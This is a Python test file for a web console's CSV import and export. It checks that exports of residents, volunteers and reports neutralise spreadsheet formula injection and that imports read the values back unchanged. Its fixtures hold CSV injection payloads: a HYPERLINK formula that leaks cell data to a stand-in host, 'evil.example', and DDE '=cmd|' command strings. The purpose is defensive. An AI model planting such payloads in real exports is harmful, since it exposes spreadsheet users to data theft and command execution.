"""CSV exports a spreadsheet cannot run, and imports that read them back as they were (issue
#20, finding 6): the directory's residents and volunteers, and the report, over HTTP."""

from __future__ import annotations

import csv
import io
import re

from monitor.core.csv_cells import FORMULA_STARTS
from monitor.store.models import Resident, Volunteer
from monitor.users.identity import Role
from tests.support.deployment import Deployment
from tests.web.support import ConsoleClient, add_user

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Details")'
RESIDENT = {
    "id": "r-9",
    "name": FORMULA,
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "area": "a-1",
    "phone": "+8613800000009",
    "notes": "-2+3 (insulin twice a day)",
}
VOLUNTEER = {"id": "v-29", "name": "+Li Na", "phone": "+8613900000029", "areas": "a-1"}


def cells(document: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(document.lstrip("\ufeff"))))


def runnable(row: dict[str, str], *, phones_too: bool = False) -> dict[str, str]:
    """The cells a spreadsheet would take for formulas."""
    return {
        key: value for key, value in row.items() if value.startswith(FORMULA_STARTS) and (phones_too or key != "phone")
    }


async def test_directory_exports_are_inert_and_import_back_unchanged(deployment: Deployment) -> None:
    async with deployment.monitor() as monitor:
        await add_user(monitor, "admin", role=Role.ADMIN)
        async with ConsoleClient(deployment.web_url) as admin:
            await admin.sign_in("admin")
            for section, entry in (("residents", RESIDENT), ("volunteers", VOLUNTEER)):
                saved = await admin.post(f"/directory/{section}/new", entry)
                assert saved.status_code == 303, re.findall(r'<p class="field-error">(.*?)</p>', saved.text)
            residents = (await admin.http.get("/directory/residents/export.csv")).text
            volunteers = (await admin.http.get("/directory/volunteers/export.csv")).text
            for section, document in (("residents", residents), ("volunteers", volunteers)):
                imported = await admin.post(
                    f"/directory/{section}/import", files={"file": (f"{section}.csv", document.encode(), "text/csv")}
                )
                assert imported.status_code == 200, imported.text
        async with monitor.database.read() as session:
            resident = await session.get(Resident, "r-9")
            volunteer = await session.get(Volunteer, "v-29")
    [exported] = [row for row in cells(residents) if row["id"] == "r-9"]
    assert exported["name"] == "'" + FORMULA and exported["notes"] == "'" + RESIDENT["notes"]
    assert exported["phone"] == "+8613800000009"  # dialable: E.164 in a phone column stays as it is
    assert all(runnable(row) == {} for row in cells(residents) + cells(volunteers))
    [helper] = [row for row in cells(volunteers) if row["id"] == "v-29"]
    assert helper["name"] == "'+Li Na" and helper["phone"] == "+8613900000029"
    assert resident is not None and volunteer is not None
    assert (resident.name, resident.address, resident.notes, resident.phone) == (
        FORMULA,
        RESIDENT["address"],
        RESIDENT["notes"],
        "+8613800000009",
    )
    assert (volunteer.name, volunteer.phone) == ("+Li Na", "+8613900000029")


async def test_the_report_csv_is_inert(deployment: Deployment) -> None:
    async with deployment.monitor() as monitor:
        await add_user(monitor, "duty")
        async with ConsoleClient(deployment.web_url) as duty:
            await duty.sign_in("duty")
            today = deployment.today()
            answer = await duty.http.get(
                "/reports/report.csv", params={"from": today, "to": today, "area": "=cmd|'/C calc'!A0"}
            )
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert ["period", "area", "'=cmd|'/C calc'!A0"] in rows
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
